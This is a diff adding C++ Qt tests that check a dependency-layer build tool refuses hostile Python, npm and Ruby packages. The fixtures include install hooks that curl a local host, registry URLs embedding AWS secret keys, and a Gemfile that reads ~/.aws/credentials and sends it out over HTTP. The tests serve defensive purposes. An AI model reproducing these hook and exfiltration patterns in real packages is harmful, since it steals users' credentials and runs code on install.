@@ -49,6 +49,7 @@ class TestCliLayerInstall : public QObject
         env.insert(QStringLiteral("HOME"), at(QStringLiteral("home")));
         env.insert(QStringLiteral("PIP_INDEX_URL"), QStringLiteral("http://user:%1@127.0.0.1:%2/simple").arg(QString::fromLatin1(secret), m_port));
         env.insert(QStringLiteral("TOKEN"), QString::fromLatin1(secret));
+        env.insert(QStringLiteral("AWS_SECRET_ACCESS_KEY"), QStringLiteral("never-read-this"));
         return env;
     }
     void begin(QProcess &p, const QString &line) const
@@ -219,6 +220,113 @@ private slots:
             QCOMPARE(QDir(at(QStringLiteral("project/layers/one/python"))).entryList({QStringLiteral("*.py")}).join(u' ').remove(QStringLiteral(".py")).toUtf8(), outcome);
         }
         QCOMPARE(leftOvers(), QStringList());
+    }
+
+    /// What a library, not the list, names by an address of its own: sources are refused by name and none of their code runs, a wheel is told.
+    void librariesThatNameAddresses_data()
+    {
+        QTest::addColumn<QByteArray>("asked");
+        QTest::addColumn<QByteArray>("outcome");
+        QTest::newRow("sources") << QByteArray("evil @ http://127.0.0.1:PORT/files/evil/evil-1.0.tar.gz") << QByteArray("LTH-LYR-006");
+        QTest::newRow("sources that bring their own build") << QByteArray("evil @ http://127.0.0.1:PORT/files/evil/own-1.0.tar.gz") << QByteArray("LTH-LYR-006");
+        QTest::newRow("a repository") << QByteArray("evil @ git+http://127.0.0.1:PORT/seen/evil.git") << QByteArray("LTH-LYR-006");
+        QTest::newRow("a wheel") << QByteArray("other @ http://127.0.0.1:PORT/files/other/other-1.0-py3-none-any.whl") << QByteArray("name others by an address");
+    }
+    void librariesThatNameAddresses()
+    {
+        QFETCH(QByteArray, asked);
+        QFETCH(QByteArray, outcome);
+        const QByteArray run = "import os, urllib.request\nopen('/tmp/ran', 'w')\nurllib.request.urlopen('http://127.0.0.1:" + m_port.toUtf8() + "/seen/ran')\n";
+        write(QStringLiteral("src/evil-1.0/setup.py"), run + "from setuptools import setup\nsetup(name='evil', version='1.0')\n");
+        write(QStringLiteral("src/own/own-1.0/pyproject.toml"), "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n[project]\nname = 'evil'\nversion = '1.0'\n");
+        write(QStringLiteral("src/own/own-1.0/backend.py"), run);
+        QVERIFY(QDir().mkpath(at(QStringLiteral("index/pip/evil"))));
+        QCOMPARE(QProcess::execute(QStringLiteral("tar"), {QStringLiteral("-czf"), at(QStringLiteral("index/pip/evil/evil-1.0.tar.gz")), QStringLiteral("-C"), at(QStringLiteral("src")), QStringLiteral("evil-1.0")}), 0);
+        QCOMPARE(QProcess::execute(QStringLiteral("tar"), {QStringLiteral("-czf"), at(QStringLiteral("index/pip/evil/own-1.0.tar.gz")), QStringLiteral("-C"), at(QStringLiteral("src/own")), QStringLiteral("own-1.0")}), 0);
+        makeWheel(QStringLiteral("other"));
+        makeWheel(QStringLiteral("plain"), "Requires-Dist: " + asked.replace("PORT", m_port.toUtf8()) + "\n");
+        write(QStringLiteral("project/requirements.txt"), "plain\n");
+        this->run(QStringLiteral("layer build requirements.txt --name one --runtime python3.11"));
+        QVERIFY2(!m_out.contains(secret), told());
+        QVERIFY2(m_out.contains(outcome), told());
+        QCOMPARE(read(QStringLiteral("index/seen")), QByteArray());
+        if (outcome.startsWith("LTH")) {
+            QVERIFY2(m_code != 0 && m_out.contains("evil"), told());
+            QVERIFY(!QFile::exists(at(QStringLiteral("project/layers/one"))));
+        } else {
+            QVERIFY2(m_code == 0 && QFile::exists(at(QStringLiteral("project/layers/one/python/other.py"))), told());
+        }
+        QCOMPARE(leftOvers(), QStringList());
+    }
+
+    /// Settings and locks of a project do not undo what is decided here, nor take the user's keys along.
+    void hostileNpmProjects_data()
+    {
+        QTest::addColumn<QByteArray>("settings");
+        QTest::addColumn<QByteArray>("dependencies");
+        QTest::addColumn<QByteArray>("lock");
+        QTest::addColumn<QByteArray>("outcome");
+        const QByteArray evil("{\"evil\":\"1.0.0\"}"), none;
+        QTest::newRow("scripts by its settings") << QByteArray("ignore-scripts=false\nscript-shell=/bin/sh\nunsafe-perm=true\n") << evil << none << QByteArray();
+        QTest::newRow("git by its settings") << QByteArray("git=/bin/sh\nallow-git=all\n") << QByteArray("{\"evil\":\"1.0.0\",\"wantsgit\":\"1.0.0\"}") << none << QByteArray("LTH-LYR-032");
+        QTest::newRow("a repository") << none << QByteArray("{\"x\":\"git+http://127.0.0.1:PORT/seen/x.git\"}") << none << QByteArray("LTH-LYR-032");
+        QTest::newRow("a repository of a code host") << none << QByteArray("{\"x\":\"somebody/x\"}") << none << QByteArray("LTH-LYR-032");
+        QTest::newRow("a repository in the lock") << none << evil << QByteArray("{\"name\":\"app\",\"version\":\"1.0.0\",\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"evil\":\"1.0.0\"}},"
+            "\"node_modules/evil\":{\"version\":\"1.0.0\",\"resolved\":\"git+ssh://git@127.0.0.1:PORT/evil.git#0123456789012345678901234567890123456789\"}}}") << QByteArray("LTH-LYR-032");
+        QTest::newRow("another registry in the lock") << QByteArray("//localhost:PORT/npm/:_authToken=${TOKEN}\n") << evil << QByteArray("{\"name\":\"app\",\"version\":\"1.0.0\",\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"evil\":\"1.0.0\"}},"
+            "\"node_modules/evil\":{\"version\":\"1.0.0\",\"resolved\":\"http://localhost:PORT/npm/evil/-/x.tgz\"}}}") << QByteArray("localhost");
+        QTest::newRow("a folder") << none << QByteArray("{\"x\":\"file:../..\"}") << none << QByteArray("LTH-LYR-016");
+    }
+    void hostileNpmProjects()
+    {
+        QFETCH(QByteArray, settings);
+        QFETCH(QByteArray, dependencies);
+        QFETCH(QByteArray, lock);
+        QFETCH(QByteArray, outcome);
+        const QByteArray port = m_port.toUtf8();
+        write(QStringLiteral("index/npm/evil/package/package.json"), "{\"name\":\"evil\",\"version\":\"1.0.0\",\"hasInstallScript\":true,\"scripts\":{\"preinstall\":\"curl -s http://127.0.0.1:" + port + "/seen/a\",\"postinstall\":\"curl -s http://127.0.0.1:" + port + "/seen/b\"}}");
+        write(QStringLiteral("index/npm/wantsgit/package/package.json"), "{\"name\":\"wantsgit\",\"version\":\"1.0.0\",\"dependencies\":{\"x\":\"git+http://127.0.0.1:" + port + "/seen/x.git\"}}");
+        write(QStringLiteral("project/js/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":" + dependencies.replace("PORT", port) + "}");
+        write(QStringLiteral("project/js/.npmrc"), "registry=http://127.0.0.1:" + port + "/npm/\n//127.0.0.1:" + port + "/npm/:_authToken=${TOKEN}\n" + settings.replace("PORT", port));
+        if (!lock.isEmpty())
+            write(QStringLiteral("project/js/package-lock.json"), lock.replace("PORT", port));
+        run(QStringLiteral("layer build js/package.json --name js --runtime nodejs20.x"));
+        QVERIFY2(m_out.contains(outcome), told());
+        QVERIFY2((m_code != 0) == outcome.startsWith("LTH"), told());
+        QCOMPARE(QFile::exists(at(QStringLiteral("project/layers/js/nodejs/node_modules/evil/package.json"))), m_code == 0);
+        QCOMPARE(read(QStringLiteral("index/seen")), QByteArray());
+        QCOMPARE(leftOvers(), QStringList());
+    }
+
+    void keysAreNotForRegistries()
+    {
+        write(QStringLiteral("project/js/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"quiet\":\"1.0.0\"}}");
+        write(QStringLiteral("project/js/.npmrc"), "registry=http://127.0.0.1:" + m_port.toUtf8() + "/seen/npm/${AWS_SECRET_ACCESS_KEY}/\n# " + QFile::encodeName(at(QStringLiteral("home/.aws/credentials"))) + "\n");
+        run(QStringLiteral("layer build js/package.json --name js --runtime nodejs20.x"));
+        QVERIFY2(m_code != 0, told());
+        write(QStringLiteral("project/requirements.txt"), "--index-url http://127.0.0.1:" + m_port.toUtf8() + "/seen/pip/${AWS_SECRET_ACCESS_KEY}/\nplain\n");
+        run(QStringLiteral("layer build requirements.txt --name py --runtime python3.11"));
+        QVERIFY2(m_code != 0, told());
+        write(QStringLiteral("project/rb/Gemfile"), "# '" + QFile::encodeName(at(QStringLiteral("home/.aws/credentials"))) + "'\nrequire 'net/http'\nNet::HTTP.get(URI('http://127.0.0.1:" + m_port.toUtf8() + "/seen/rb-' + (File.read('"
+            + QFile::encodeName(at(QStringLiteral("home/.aws/credentials"))) + "') rescue 'nothing').split.last))\n");
+        run(QStringLiteral("layer build rb/Gemfile --name rb --runtime ruby3.3"));
+        const QByteArray seen = read(QStringLiteral("index/seen"));
+        QVERIFY2(seen.contains("/seen/rb-nothing"), (told() + seen).constData());
+        QVERIFY2(!seen.contains("never-read-this"), seen.constData());
+    }
+
+    /// A process that a script leaves behind keeps the output open: the end of npm is the end, and the process goes with it.
+    void whatKeepsTheOutputOpenIsNotWaitedFor()
+    {
+        write(QStringLiteral("index/npm/evil/package/package.json"), "{\"name\":\"evil\",\"version\":\"1.0.0\",\"hasInstallScript\":true,\"scripts\":{\"postinstall\":\"setsid sleep 765432 & sh -c 'trap : TERM HUP; sleep 765432' & exit 0\"}}");
+        write(QStringLiteral("project/js/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"evil\":\"1.0.0\"}}");
+        write(QStringLiteral("project/js/.npmrc"), "foreground-scripts=true\nregistry=http://127.0.0.1:" + m_port.toUtf8() + "/npm/\n//127.0.0.1:" + m_port.toUtf8() + "/npm/:_authToken=${TOKEN}\n");
+        QElapsedTimer timer;
+        timer.start();
+        run(QStringLiteral("layer build js/package.json --name js --runtime nodejs20.x --allow-scripts"));
+        QVERIFY2(m_code == 0, told());
+        QVERIFY2(timer.elapsed() < 60000, told());
+        QVERIFY2(!processWith("765432"), "a process was left");
     }
 
     void endedInTheMidst()
